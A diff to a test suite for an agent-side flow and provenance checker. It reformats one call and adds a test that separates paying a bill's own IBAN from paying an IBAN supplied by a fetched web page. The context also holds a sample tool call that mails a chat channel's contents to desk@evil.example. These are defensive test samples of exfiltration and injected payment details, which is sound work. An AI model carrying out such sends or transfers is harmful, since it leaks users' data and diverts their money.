@@ -175,7 +175,12 @@ describe("intent binding in the flow step", () => {
 
   it("a page fetched from a tool-supplied link is designated neither by its call nor by a name in it", () => {
     let facts = appendUserMessage(emptyProvenance("u"), "Read the RSVP page linked in Mia's invite.");
-    facts = output(facts, "mail.search", { query: "Mia" }, "From: Mia <mia@fern.example> https://ev.example/rsvp");
+    facts = output(
+      facts,
+      "mail.search",
+      { query: "Mia" },
+      "From: Mia <mia@fern.example> https://ev.example/rsvp",
+    );
     facts = output(
       facts,
       "web.fetch_url",
@@ -193,6 +198,22 @@ describe("intent binding in the flow step", () => {
     facts = output(facts, "chat.read_channel", { channel: "marketing" }, channel);
     expect(flowIds("mail.send_email", { to: "desk@evil.example", body: channel }, facts)).toContain(
       "flow.data_leaving",
+    );
+  });
+
+  it("the bill's reference goes with the bill's own IBAN; not to an IBAN from elsewhere", () => {
+    const bill = "Amount due: 86.40 EUR\nPay to IBAN: DE89370400440532013000\nReference: SWN-2026-11-4471";
+    let facts = appendUserMessage(emptyProvenance("u"), "Pay the bill in bills/power.txt.");
+    facts = output(facts, "files.read_file", { path: "bills/power.txt" }, bill);
+    const pay = { iban: "DE89370400440532013000", amount: 86.4, reference: "SWN-2026-11-4471" };
+    expect(flowIds("bank.transfer_money", pay, facts)).toEqual([
+      "flow.intent_binding",
+      "flow.intent_binding",
+    ]);
+    facts = output(facts, "web.fetch_url", { url: "https://x.example" }, "IBAN GB33BUKB20201555555555");
+    const elsewhere = { ...pay, iban: "GB33BUKB20201555555555" };
+    expect(flowIds("bank.transfer_money", elsewhere, facts)).toEqual(
+      expect.arrayContaining(["flow.argument_provenance", "flow.data_leaving"]),
     );
   });
 });
